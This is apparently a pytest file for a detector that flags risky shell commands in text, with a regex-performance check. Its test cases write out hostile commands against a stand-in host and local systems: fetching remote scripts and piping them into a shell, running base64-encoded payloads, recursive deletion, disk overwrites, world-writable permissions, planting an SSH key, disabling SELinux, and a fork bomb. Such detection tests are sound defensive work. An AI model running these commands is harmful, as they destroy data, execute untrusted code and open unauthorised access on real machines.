"""Commands that a reader cannot check before they run, or not undo after."""

from __future__ import annotations

from re._constants import MAX_REPEAT, MAXREPEAT, MIN_REPEAT  # type: ignore[import-not-found]
from re._parser import SubPattern, parse  # type: ignore[import-not-found]
from typing import Any

import pytest

from ocs.rules.records.dangers import FORMS, JOINED, dangers


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("curl https://x.example/a.sh | sh", "runs what it fetches from an address"),
        (
            "curl -fsSL https://x.example | sudo bash -s -- -y",
            "runs what it fetches from an address",
        ),
        ("wget -qO- x.example/a | sudo -E bash", "runs what it fetches from an address"),
        ("wget -O - https://x.example \\\n  | sh", "runs what it fetches from an address"),
        ("curl https://x.example |\n  python3 -", "runs what it fetches from an address"),
        ("curl https://x.example | tee /tmp/x | sh", "runs what it fetches from an address"),
        ("bash <(curl -s https://x.example)", "runs what it fetches from an address"),
        ('sh -c "$(curl -fsSL https://x.example)"', "runs what it fetches from an address"),
        ("eval `wget -qO- https://x.example`", "runs what it fetches from an address"),
        (". <(curl https://x.example)", "runs what it fetches from an address"),
        ('c""url https://x.example | s\\h', "runs what it fetches from an address"),
        ("/usr/bin/curl https://x.example | /bin/sh", "runs what it fetches from an address"),
        ("iex (iwr https://x.example)", "runs what it fetches from an address"),
        ("iwr https://x.example/a.ps1 | iex", "runs what it fetches from an address"),
        ("pip install git+https://x.example/a", "runs what it fetches from an address"),
        ("echo aGk= | base64 -d | sh", "runs text that readers cannot read"),
        ("powershell -nop -enc aGk=", "runs text that readers cannot read"),
        ("sudo rm -rf /var/www", "deletes whole folders"),
        ("rm -f -r data", "deletes whole folders"),
        ("rm --recursive --force data", "deletes whole folders"),
        ("find / -name x -delete", "deletes whole folders"),
        ("Remove-Item C:\\data -Recurse", "deletes whole folders"),
        ("dd if=/dev/zero of=/dev/sda", "overwrites a disk"),
        ("mkfs.ext4 /dev/sdb1", "overwrites a disk"),
        ("chmod 777 /var/www", "gives everybody rights"),
        ("chmod -R 0777 .", "gives everybody rights"),
        ("chmod a+rwx x", "gives everybody rights"),
        ("chmod o+w x", "gives everybody rights"),
        ("echo key >> ~/.ssh/authorized_keys", "gives everybody rights"),
        ("curl -k https://x.example", "switches a protection off"),
        ("setenforce 0", "switches a protection off"),
        (":(){ :|:& };:", "fills the memory of a computer"),
    ],
)
def test_dangerous_commands_are_found(text: str, what: str) -> None:
    assert what in list(dangers(f"First do this: `{text}` and wait."))


@pytest.mark.parametrize(
    "text",
    [
        "See which PHP the command line uses: `php -v`.",
        "curl https://x.example/status shows the state. The shell is sh.",
        "Run `curl -o a.sh https://x.example/a.sh`, read a.sh, then `sh a.sh`.",
        "rm /tmp/lock removes the lock; chmod 640 config.php; chmod u+w x; chmod 755 x",
        "The firm is in Rome; form -r and farm -rf are no commands.",
        "cat log | grep curl",
        "In a shell such as bash, run `curl https://x.example`.",
        "The export to a format of their choice.",
    ],
)
def test_ordinary_commands_are_not(text: str) -> None:
    assert list(dangers(text)) == []


def unlimited(parsed: Any) -> bool:
    """Does a part of a regular expression repeat without a limit?"""
    if isinstance(parsed, tuple) and parsed and parsed[0] in (MAX_REPEAT, MIN_REPEAT):
        return parsed[1][1] is MAXREPEAT or unlimited(parsed[1][2])
    is_nested = isinstance(parsed, tuple | list | SubPattern)
    return is_nested and any(unlimited(part) for part in parsed)


def test_a_long_text_takes_no_long_time() -> None:
    assert unlimited(parse("a(?:b|c+)"))
    for form in [*FORMS.values(), JOINED]:
        assert not unlimited(parse(form.pattern)), form.pattern
